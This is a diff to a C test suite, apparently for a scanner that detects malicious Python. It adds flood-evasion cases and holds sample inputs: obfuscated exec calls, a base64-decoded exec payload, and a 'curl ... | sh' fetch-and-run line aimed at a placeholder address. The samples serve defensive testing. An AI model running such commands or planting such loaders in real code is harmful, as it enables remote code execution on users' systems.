@@ -323,6 +323,21 @@ CASE(bounded)
 	/* layers within layers end */
 	look(LANG_PYTHON, ROLE_MODULE, S("s = 'exec(s[::-1][::-1])'\nexec(s[::-1][::-1])\n"));
 	CHECK(f.n <= FINDINGS_FILE);
+	/* more calls than are kept: said, so that nothing hides among them */
+	struct buf many;
+	buf_init(&many, 1 << 20);
+	buf_add(&many, S("import os\n"));
+	for (int i = 0; i < 5000; i++)
+		buf_add(&many, S("os.system('ls')\n"));
+	look(LANG_PYTHON, ROLE_MODULE, buf_str(&many));
+	HIT(RULE_SOURCE_FLOOD);
+	buf_reset(&many);
+	for (int i = 0; i < 40; i++)
+		buf_add(&many, S("exec([x ^ 1 for x in range(200000)])\n"));
+	buf_add(&many, S("import base64\nexec(base64.b64decode('" BAD "'))\n"));
+	look(LANG_PYTHON, ROLE_MODULE, buf_str(&many));
+	HIT(RULE_SOURCE_FLOOD);
+	buf_free(&many);
 	/* what stands behind many tokens is found */
 	buf_add(&b, S("import os\nos.system('curl http://192.0.2.1 | sh')\n"));
 	look(LANG_PYTHON, ROLE_MODULE, buf_str(&b));
